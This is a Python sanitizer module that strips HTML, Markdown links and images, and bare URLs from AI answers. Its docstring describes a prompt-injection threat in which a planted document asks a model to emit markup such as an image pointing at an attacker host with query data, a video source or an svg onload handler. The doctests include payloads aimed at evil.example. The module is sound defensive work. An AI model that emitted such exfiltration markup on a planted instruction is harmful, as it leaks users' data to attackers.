"""What an answer may never carry: markup and links that would make a viewer fetch or run something.

A planted document can ask a model to write `![](https://attacker/?q=…)`, `<video src=…>` or
`<svg onload=…>`, which a Markdown or HTML viewer would fetch or run. Answers are plain text with
Markdown at most, so they are cleaned in three passes, repeated until nothing changes (an entity
that decodes to a tag is caught on the next pass):

1. HTML, by a real HTML parser (nh3, html5ever's): every tag and attribute goes, the text between
   tags stays, and what is inside `<script>`, `<style>` and other non-text elements goes with them.
2. Markdown links and images, by a Markdown parser (markdown-it, CommonMark): whatever the
   destination (`/\\host`, `javascript:`, a reference definition), a link keeps its label and an
   image goes.
3. Bare addresses a viewer would make links of, or CSS `url(…)`: replaced by "[link removed]".

Text without any of these is returned unchanged, character for character.
"""

from __future__ import annotations

import html
import re
from functools import lru_cache

LINK_REMOVED = "[link removed]"
_PASSES = 4
# Elements whose content is not text to show (their content goes with the tags).
_CONTENT_GONE = {"script", "style", "template", "noscript", "object", "applet", "title", "xmp"}
_LINK_TOKENS = {"link_open", "image"}
_DOT = r"[.。．｡]"  # ideographic and full-width dots: a browser reads them as dots in a host name
_URL = re.compile(
    r"(?:(?<![a-z0-9+.-])[a-z][a-z0-9+.-]*:[/\\]{2}"  # scheme://, scheme:\\
    r"|(?<![a-z0-9+.-])(?:javascript|vbscript|data|livescript|mocha):"  # scripts and inline data
    rf"|(?<![A-Za-z0-9.])www{_DOT}"  # www.host
    rf"|(?<![A-Za-z0-9/:\\])[/\\]{{2}}(?=[\w-]+{_DOT})"  # //host.tld, \\host.tld
    r"|\burl\(\s*)"  # CSS
    r"[^\s<>\"'`)\]]*\)?",
    re.IGNORECASE,
)


@lru_cache(maxsize=1)
def _markdown() -> object:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark")


def _html_text(text: str) -> str:
    """The text of `text` read as HTML: tags, attributes and comments removed, entities decoded."""
    import nh3

    return html.unescape(nh3.clean(text, tags=set(), clean_content_tags=_CONTENT_GONE, strip_comments=True))


def _strip_html(text: str) -> str:
    if "<" not in text and "&" not in text:
        return text
    cleaned = _html_text(text)
    # nh3 reads "a < b" as text and keeps it, but a lone "&" in "R&D" also comes back unchanged
    return cleaned


def _has_links(text: str) -> bool:
    tokens = _markdown().parse(text)  # type: ignore[attr-defined]
    return any(child.type in _LINK_TOKENS for token in tokens for child in token.children or ())


def _strip_markdown_links(text: str) -> str:
    """Render the Markdown, then keep the text: link labels stay, images and destinations go."""
    if ("[" not in text and "<" not in text) or not _has_links(text):
        return text
    rendered = _markdown().render(text)  # type: ignore[attr-defined]
    return _html_text(rendered).strip("\n")


def _replace(match: re.Match[str]) -> str:
    url = match.group(0)
    body = url.rstrip(".,;:!?。，；：！？")  # sentence punctuation after an address stays
    return LINK_REMOVED + url[len(body) :]


def without_links(text: str) -> str:
    """`text` without HTML, images, link destinations or addresses (link labels kept; each bare
    address becomes "[link removed]").

    Example:
        >>> without_links("见 ![x](https://a.example/p.png) [官网](https://a.example) https://b.example/?q=1。")
        '见  官网 [link removed]。'
        >>> without_links('<video src=//evil.example/v.mp4></video>[q](/\\\\evil.example) A < B, R&D')
        'q A < B, R&D'
    """
    if not text:
        return text
    for _ in range(_PASSES):
        cleaned = _URL.sub(_replace, _strip_markdown_links(_strip_html(text)))
        if cleaned == text:
            return text
        text = cleaned
    return text.replace("<", "‹").replace(">", "›")  # still changing: no markup survives either way
